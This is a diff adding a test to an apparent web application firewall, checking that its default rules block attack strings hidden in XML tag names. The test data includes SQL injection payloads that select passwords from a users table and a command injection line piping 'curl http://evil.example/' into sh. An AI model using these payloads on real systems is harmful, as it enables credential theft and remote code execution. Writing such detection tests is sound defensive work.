@@ -5,6 +5,7 @@ import { deflateRawSync } from 'node:zlib';
 import type { Where } from '../../../src/guard/decide/waf/inspect/pieces.ts';
 import { Pieces } from '../../../src/guard/decide/waf/inspect/pieces.ts';
 import { readers } from '../../../src/guard/decide/waf/inspect/places.ts';
+import { blockedBy } from '../../corpora/report/default-set.ts';
 import { paperRequest } from '../paper-wire.ts';
 
 /** `name=text` of every piece of a value but itself. */
@@ -126,4 +127,19 @@ test('an argument whose comment another one of its name ends is looked at as one
   const found = read(0, '/?id=1%20union/*&x=2&id=*/select%20a,b', []);
   assert.ok(found.includes('id=1 union/*,*/select a,b'), `${found}`);
   assert.equal(read(0, "/?id=it's&id=x,y&id=/*a*/", []).length, 6);
+});
+
+test('what stands where XML has names and is none is looked at, and the document as the text it is', () => {
+  for (const value of [
+    "<x><a'||(select(password)from(users))||'/></x>",
+    "<x><a '||(select(password)from(users))||'='b'/></x>",
+    "<x></a'||(select(password)from(users))||'></x>",
+    "<x><y></y'||(select(password)from(users))||'></x>",
+    '<x><y></y;curl\thttp://evil.example/|sh;></x>',
+  ]) {
+    const target = `/?id=${encodeURIComponent(value)}`;
+    assert.notEqual(blockedBy({ target }), '', value);
+    const headers = ['Content-Type', 'application/xml'];
+    assert.notEqual(blockedBy({ method: 'POST', headers, body: value }), '', value);
+  }
 });
